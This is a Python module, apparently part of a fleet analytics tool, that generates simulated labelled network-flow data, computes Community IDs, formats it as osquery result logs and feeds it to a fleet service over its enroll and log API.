        builder.schedule(host, rng)
    for host, rng in zip(builder.hosts, rngs, strict=True):
        builder.residents(host, rng)
    for host, rng in zip(builder.hosts, rngs, strict=True):
        builder.host_traffic(host, rng)
    planned: list[Injection] = []
    if scenarios:
        attacks_ = _Attacks(builder, attack_start, np.random.default_rng([seed, 4]))
        if attack_hosts is None:  # one per attack, as far as there are hosts that are on then
            awake = sum(1 for host in builder.hosts if len(attacks_.on_windows(host)))
            attack_hosts = min(len(scenarios), max(awake, 1))
        chosen = _attack_hosts(builder, attacks_, np.random.default_rng([seed, 3]), attack_hosts)
        for i, scenario in enumerate(scenarios):
            plan = _Plan(scenario, i + 1, chosen[i % len(chosen)], np.random.default_rng([seed, 5, i]))
            planned.append(attacks_.run(plan))
    flows, spans = _frame(builder, builder.aggregate(np.random.default_rng([seed, 6])), scenarios)
    injections = tuple(
        replace(item, start=spans[i + 1][0], end=spans[i + 1][1]) if i + 1 in spans else item
        for i, item in enumerate(planned)
    )
    return Simulation(
        flows=flows,
        injections=injections,
        hosts=tuple(host.identifier for host in builder.hosts),
        start=start,
        end=end,
        window_seconds=window,
    )


def _community_ids(
    proto: IntArray,
    family: IntArray,
    *,
    local: tuple[IntArray, Any, Any],
    lport: IntArray,
    remote: tuple[IntArray, Any, Any],
    rport: IntArray,
) -> ObjArray:
    """Community ID v1 (seed 0) of each flow, exactly as extension.community_id computes it, for
    addresses given as (IPv4 int, IPv6 high 64 bits, IPv6 low 64 bits)."""
    out = np.empty(len(proto), dtype=object)
    numbers = np.asarray(PROTOCOL_NUMBERS, dtype=np.uint8)[proto]
    for fam in (4, 6):
        sel = np.flatnonzero(family == fam)
        m = len(sel)
        if m == 0:
            continue
        if fam == 4:
            src = [local[0][sel].astype(np.uint64)]
            dst = [remote[0][sel].astype(np.uint64)]
            fields: list[Any] = [("seed", ">u2"), ("src", ">u4"), ("dst", ">u4")]
        else:
            src = [np.asarray(local[1], dtype=np.uint64)[sel], np.asarray(local[2], dtype=np.uint64)[sel]]
            dst = [np.asarray(remote[1], dtype=np.uint64)[sel], np.asarray(remote[2], dtype=np.uint64)[sel]]
            fields = [("seed", ">u2"), ("src", ">u8", (2,)), ("dst", ">u8", (2,))]
        sp, dp = lport[sel], rport[sel]
        swap = np.zeros(m, dtype=bool)  # (dst, dport) < (src, sport): the smaller endpoint goes first
        decided = np.zeros(m, dtype=bool)
        for a, c in zip(dst, src, strict=True):
            swap |= ~decided & (a < c)
            decided |= a != c
        swap |= ~decided & (dp < sp)
        record = np.zeros(m, dtype=[*fields, ("proto", "u1"), ("pad", "u1"), ("sp", ">u2"), ("dp", ">u2")])
        first = [np.where(swap, d, s) for s, d in zip(src, dst, strict=True)]
        second = [np.where(swap, s, d) for s, d in zip(src, dst, strict=True)]
        record["src"] = first[0] if fam == 4 else np.stack(first, axis=1)
        record["dst"] = second[0] if fam == 4 else np.stack(second, axis=1)
        record["proto"] = numbers[sel]
        record["sp"] = np.where(swap, dp, sp)
        record["dp"] = np.where(swap, sp, dp)
        data = memoryview(record.tobytes())
        size = record.dtype.itemsize
        sha1 = hashlib.sha1
        digests = b"".join(
            [sha1(data[i : i + size], usedforsecurity=False).digest() for i in range(0, m * size, size)]
        )
        padded = np.zeros((m, 21), dtype=np.uint8)  # 21 bytes: 28 base64 characters, the last one "="
        padded[:, :20] = np.frombuffer(digests, dtype=np.uint8).reshape(m, 20)
        text = np.empty((m, 30), dtype=np.uint8)
        text[:, :2] = np.frombuffer(b"1:", dtype=np.uint8)
        text[:, 2:] = np.frombuffer(base64.b64encode(padded.tobytes()), dtype=np.uint8).reshape(m, 28)
        text[:, 29] = ord("=")
        out[sel] = text.reshape(-1).view("S30").astype("U30").astype(object)
    return out


def _frame(
    builder: _Builder, rows: dict[str, Any], scenarios: tuple[str, ...]
) -> tuple[pd.DataFrame, dict[int, tuple[int, int]]]:
    """The rows as a DataFrame, and per scenario label the span [first window, end of last window)."""
    conns: dict[str, IntArray] = rows["conns"]
    procs: dict[str, IntArray] = rows["procs"]
    conn: IntArray = rows["conn"]
    window: IntArray = rows["window"]
    proc = conns["proc"][conn]
    host = procs["host"][proc]
    remote = conns["remote"][conn]
    # one row per flow key and host: should two connections ever share one in a window, the first stays
    k1 = proc * (1 << 20) + window
    k2 = (remote << 34) | (conns["proto"][conn] << 32) | (conns["lport"][conn] << 16) | conns["rport"][conn]
    by = np.lexsort((k2, k1))
    repeated = np.zeros(len(conn), dtype=bool)
    repeated[by[1:]] = (k1[by[1:]] == k1[by[:-1]]) & (k2[by[1:]] == k2[by[:-1]])
    order = np.lexsort((conn, host, window))
    order = order[~repeated[order]]
    conn, proc, host, remote, window = (a[order] for a in (conn, proc, host, remote, window))
    pick = {
        name: rows[name][order]
        for name in ("bs", "br", "sends", "recvs", "first", "last", "act", "connections")
    }
    family = _i64(builder.remotes.family)[remote]
    hosts = builder.hosts

    def objects(values: list[Any]) -> ObjArray:
        out = np.empty(len(values), dtype=object)
        out[:] = values
        return out

    # Community IDs once per connection
    used, inverse = np.unique(conn, return_inverse=True)
    used_host = procs["host"][conns["proc"][used]]
    used_remote = conns["remote"][used]
    v6 = [_canonical(h.v6)[3:] if h.v6 else (0, 0) for h in hosts]
    local = (
        _i64([_canonical(h.v4)[2] for h in hosts])[used_host],
        np.asarray([hi for hi, _ in v6], dtype=np.uint64)[used_host],
        np.asarray([lo for _, lo in v6], dtype=np.uint64)[used_host],
    )
    far = (
        _i64(builder.remotes.v4)[used_remote],
        np.asarray(builder.remotes.hi, dtype=np.uint64)[used_remote],
        np.asarray(builder.remotes.lo, dtype=np.uint64)[used_remote],
    )
    used_family = _i64(builder.remotes.family)[used_remote]
    ids = _community_ids(
        conns["proto"][used],
        used_family,
        local=local,
        lport=conns["lport"][used],
        remote=far,
        rport=conns["rport"][used],
    )
    strings = builder.strings.array()
    w = builder.window
    label = conns["scenario"][conn]
    columns: dict[str, Any] = {
        "window_start": builder.start + window * w,
        "window_seconds": np.full(len(conn), w, dtype=np.int64),
        "pid": procs["pid"][proc],
        "process_name": strings[procs["name"][proc]],
        "process_path": strings[procs["path"][proc]],
        "process_sha256": strings[procs["sha"][proc]],
        "uid": procs["uid"][proc],
        "username": strings[procs["user"][proc]],
        "protocol": objects(list(PROTOCOL_NAMES))[conns["proto"][conn]],
        "family": family,
        "direction": objects(list(DIRECTION_NAMES))[conns["direction"][conn]],
        "local_address": np.where(
            family == 6, objects([h.v6 for h in hosts])[host], objects([h.v4 for h in hosts])[host]
        ),
        "local_port": conns["lport"][conn],
        "remote_address": objects(builder.remotes.text)[remote],
        "remote_port": conns["rport"][conn],
        "local_hostname": objects([h.short for h in hosts])[host],
        "remote_hostname": objects(builder.remotes.hostname)[remote],
        "bytes_sent": pick["bs"],
        "bytes_received": pick["br"],
        "connections": pick["connections"],
        "activity": objects(list(ACTIVITY_NAMES))[pick["act"]],
        "first_seen": pick["first"],
        "last_seen": pick["last"],
        "sends": pick["sends"],
        "receives": pick["recvs"],
        "community_id": ids[inverse],
        "process_start_time": procs["start"][proc],
        "parent_pid": procs["ppid"][proc],
        "cmdline": strings[procs["cmd"][proc]],
        "host_identifier": objects([h.identifier for h in hosts])[host],
        "scenario": objects(["", *scenarios])[label],
    }
    frame = pd.DataFrame(
        {
            name: pd.Series(values, dtype="str" if name not in INTEGER_COLUMNS else np.int64, copy=False)
            for name, values in columns.items()
        }
    )
    spans: dict[int, tuple[int, int]] = {}
    starts = columns["window_start"]
    for code in np.unique(label[label > 0]).tolist():
        mine = starts[label == code]
        spans[int(code)] = (int(mine.min()), int(mine.max()) + w)
    return frame, spans


# -- result lines, and feeding them to the service -------------------------------------------------------


def result_lines(simulation: Simulation, *, unix_time: int | None = None) -> dict[str, list[str]]:
    """Per host identifier, its rows as osquery result-log lines (event format: the pack's flows
    query, action "added", counter 0, 1, 2, ... per host), in window order. ``unix_time`` defaults to
    each row's window end, when the agent would have logged it."""
    flows = simulation.flows
    out: dict[str, list[str]] = {host: [] for host in simulation.hosts}
    counters = dict.fromkeys(simulation.hosts, 0)
    columns = [flows[name].tolist() for name in FLOW_COLUMNS]
    hosts = flows["host_identifier"].tolist()
    starts = columns[0]
    w = simulation.window_seconds
    for i in np.argsort(flows["window_start"].to_numpy(), kind="stable").tolist():
        host = hosts[i]
        out[host].append(
            result_line(
                name=FLOWS_QUERY,
                columns=dict(zip(FLOW_COLUMNS, (column[i] for column in columns), strict=True)),
                host_identifier=host,
                unix_time=starts[i] + w if unix_time is None else unix_time,
                counter=counters[host],
            )
        )
        counters[host] += 1
    return out


def _host_details(simulation: Simulation) -> dict[str, dict[str, Any]]:
    """What each host reports when it enrolls; the OS is recognised by its systemd-resolved binary."""
    by_sha = {_sha("resolved", os.systemd): os for os in OSES}
    flows = simulation.flows
    resolved = flows[flows["process_path"] == "/usr/lib/systemd/systemd-resolved"]
    resolved = resolved.drop_duplicates("host_identifier")
    os_of = dict(zip(resolved["host_identifier"].tolist(), resolved["process_sha256"].tolist(), strict=True))
    details = {}
    for host in simulation.hosts:
        os = by_sha.get(os_of.get(host, ""), OSES[0])
        short = host.split(".", 1)[0]
        digest = hashlib.sha256(host.encode()).hexdigest().upper()
        uuid = f"{digest[:8]}-{digest[8:12]}-{digest[12:16]}-{digest[16:20]}-{digest[20:32]}"
        details[host] = {
            "os_version": {"name": os.name, "version": os.version, "platform": os.platform},
            "system_info": {"hostname": short, "computer_name": short, "uuid": uuid},
            "osquery_info": {"version": "5.14.1"},
        }
    return details


def feed(simulation: Simulation, post: Post, *, enroll_secret: str, batch_rows: int = 1000) -> FeedReport:
    """Send the simulation's rows through the osquery TLS API, as the hosts' agents would: enroll each
    host (POST /api/v1/osquery/enroll), then POST its result lines in window order to
    /api/v1/osquery/log in gzip batches of at most ``batch_rows`` rows. Each batch carries an
    X-Idempotency-Key made of the host, the batch number and a digest of its lines, so feeding the
    same simulation again stores nothing new. ``post(path, headers, body)`` returns (HTTP status,
    JSON answer): :func:`http_post` for a running service, or an adapter over a test client.
    Raises RuntimeError naming the host and the answer when a call is not answered 200."""
    batch_rows = _whole("batch_rows", batch_rows, 1)
    if not isinstance(enroll_secret, str) or not enroll_secret:
        raise ValueError("enroll_secret must be the service's enroll secret, a non-empty string")
    started = time.monotonic()
    lines = result_lines(simulation)
    details = _host_details(simulation)
    requests = rows = stored = duplicates = quarantined = replayed = 0
    for host in simulation.hosts:
        document = {
            "enroll_secret": enroll_secret,
            "host_identifier": host,
            "host_details": details[host],
            "platform_type": "linux",
        }
        status, answer = post(
            "/api/v1/osquery/enroll", {"Content-Type": "application/json"}, json.dumps(document).encode()
        )
        requests += 1
        node_key = answer.get("node_key")
        if status != 200 or not isinstance(node_key, str):
            raise RuntimeError(f"enrolling {host} failed: HTTP {status} {answer!r}")
        host_lines = lines[host]
        for number, first in enumerate(range(0, len(host_lines), batch_rows)):
            chunk = host_lines[first : first + batch_rows]
            digest = hashlib.blake2b(f"{host}\x1f{number}\x1f".encode(), digest_size=16)
            for line in chunk:
                digest.update(line.encode())
            body = f'{{"node_key":{json.dumps(node_key)},"log_type":"result","data":[{",".join(chunk)}]}}'
            headers = {
                "Content-Type": "application/json",
                "Content-Encoding": "gzip",
                "X-Idempotency-Key": f"simulate-{digest.hexdigest()}-{number}",
            }
            status, answer = post("/api/v1/osquery/log", headers, gzip.compress(body.encode(), 6, mtime=0))
            requests += 1
            if status != 200:
                raise RuntimeError(f"logging batch {number} of {host} failed: HTTP {status} {answer!r}")
            rows += len(chunk)
            stored += int(answer.get("flow_rows") or 0)
            duplicates += int(answer.get("flow_duplicates") or 0)
            quarantined += int(answer.get("quarantined") or 0)
            replayed += answer.get("stored") is False
    return FeedReport(
        hosts=len(simulation.hosts),
        rows=rows,
        requests=requests,
        seconds=time.monotonic() - started,
        stored=stored,
        duplicates=duplicates,
        quarantined=quarantined,
        replayed=replayed,
    )


class HttpPost:
    """The ``post(path, headers, body) -> (status, json)`` callable :func:`http_post` returns: one
    keep-alive connection, reopened (and the request sent again: feed's requests are idempotent) when
    the server closed it while idle. Close it when done (or use it as a context manager)."""

    def __init__(self, base_url: str, *, timeout: float = 60.0, cafile: str | None = None) -> None:
        self.connection: http.client.HTTPConnection | None = None
        parts = urllib.parse.urlsplit(base_url)
        if parts.scheme not in ("http", "https") or not parts.hostname:
            raise ValueError(f"base_url must be an http:// or https:// URL with a host, not {base_url!r}")
        if cafile is not None and parts.scheme != "https":
            raise ValueError("cafile is only used with an https:// base_url")
        self.base_url = base_url
        self.prefix = parts.path.rstrip("/")
        self.hostname = parts.hostname
        self.port = parts.port
        self.timeout = timeout
        self.context = ssl.create_default_context(cafile=cafile) if parts.scheme == "https" else None

    def _connect(self) -> http.client.HTTPConnection:
        if self.context is not None:
            return http.client.HTTPSConnection(
                self.hostname, self.port, timeout=self.timeout, context=self.context
            )
        return http.client.HTTPConnection(self.hostname, self.port, timeout=self.timeout)

    def __call__(self, path: str, headers: dict[str, str], body: bytes) -> tuple[int, dict[str, Any]]:
        url = self.prefix + path
        for attempt in (0, 1):
            reused = self.connection is not None
            connection = self.connection or self._connect()
            self.connection = None
            try:
                connection.request("POST", url, body=body, headers=headers)
                response = connection.getresponse()
                data = response.read()
            except (OSError, http.client.HTTPException) as exc:
                connection.close()
                if attempt == 0 and reused:
                    continue  # the server closed the idle connection: once more on a new one
                raise ConnectionError(f"POST {url} to {self.base_url} failed: {exc}") from exc
            if response.will_close:
                connection.close()
            else:
                self.connection = connection
            try:
                answer = json.loads(data) if data else {}
            except ValueError:
                answer = {"error": data[:500].decode("utf-8", "replace")}
            return response.status, answer if isinstance(answer, dict) else {"answer": answer}
        raise AssertionError("unreachable")

    def close(self) -> None:
        if self.connection is not None:
            self.connection.close()
            self.connection = None

    def __enter__(self) -> HttpPost:
        return self

    def __exit__(self, *_exc: object) -> None:
        self.close()

    def __del__(self) -> None:
        self.close()


def http_post(base_url: str, *, timeout: float = 60.0, cafile: str | None = None) -> HttpPost:
    """A ``post(path, headers, body) -> (status, json)`` for :func:`feed` over HTTP(S) to a running
    service at ``base_url`` (e.g. ``https://fleet.corp.example:8443``; a path in it prefixes every
    request), on one keep-alive connection (:class:`HttpPost`; close it when done). ``cafile``: a PEM
    bundle to trust (https only). Raises ValueError for a bad URL; the calls raise ConnectionError
    when the service cannot be reached."""
    return HttpPost(base_url, timeout=timeout, cafile=cafile)


# -- command line -------------------------------------------------------------------------------------


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m fleet_analytics.simulate``: simulate, print a summary (JSON), optionally feed."""
    parser = argparse.ArgumentParser(
        prog="python -m fleet_analytics.simulate",
        description="Simulate a labelled fleet; feed it to the fleet service with --url.",
    )
    parser.add_argument("--hosts", type=int, default=50)
    parser.add_argument(
        "--days", type=float, default=1.0, help="the service refuses windows older than 7 days"
    )
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--window-seconds", type=int, default=60)
    parser.add_argument("--attacks", default="all", help="all, none, or comma-separated scenario names")
    parser.add_argument("--url", help="the fleet service, e.g. http://127.0.0.1:8080 (omit: only summarise)")
    parser.add_argument(
        "--enroll-secret-file", help="a file holding the enroll secret (else FLEET_ENROLL_SECRET)"
    )
    parser.add_argument("--cafile", help="PEM bundle to trust for an https:// URL")
    parser.add_argument("--batch-rows", type=int, default=5000)
    parser.add_argument("--labels", help="write the injections as JSON to this file")
    args = parser.parse_args(argv)
    attacks = {"all": SCENARIOS, "none": ()}.get(args.attacks) or tuple(args.attacks.split(","))
    started = time.monotonic()
    try:
        simulation = simulate(
            hosts=args.hosts,
            days=args.days,
            seed=args.seed,
            window_seconds=args.window_seconds,
            attacks=attacks,
        )
    except ValueError as exc:
        parser.error(str(exc))
    injections = [asdict(injection) for injection in simulation.injections]
    summary: dict[str, Any] = {
        "hosts": len(simulation.hosts),
        "rows": len(simulation.flows),
        "labelled_rows": int((simulation.flows["scenario"] != "").sum()),
        "start": simulation.start,
        "end": simulation.end,
        "seconds": round(time.monotonic() - started, 2),
        "injections": injections,
    }
    if args.labels:
        with open(args.labels, "w", encoding="utf-8") as out:
            json.dump(injections, out, indent=2)
    if args.url:
        if args.enroll_secret_file:
            with open(args.enroll_secret_file, encoding="utf-8") as source:
                secret = source.read().strip()
        else:
            secret = os.environ.get("FLEET_ENROLL_SECRET", "")
        with http_post(args.url, cafile=args.cafile) as post:
            report = feed(simulation, post, enroll_secret=secret, batch_rows=args.batch_rows)
        summary["feed"] = asdict(report)
    sys.stdout.write(json.dumps(summary, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
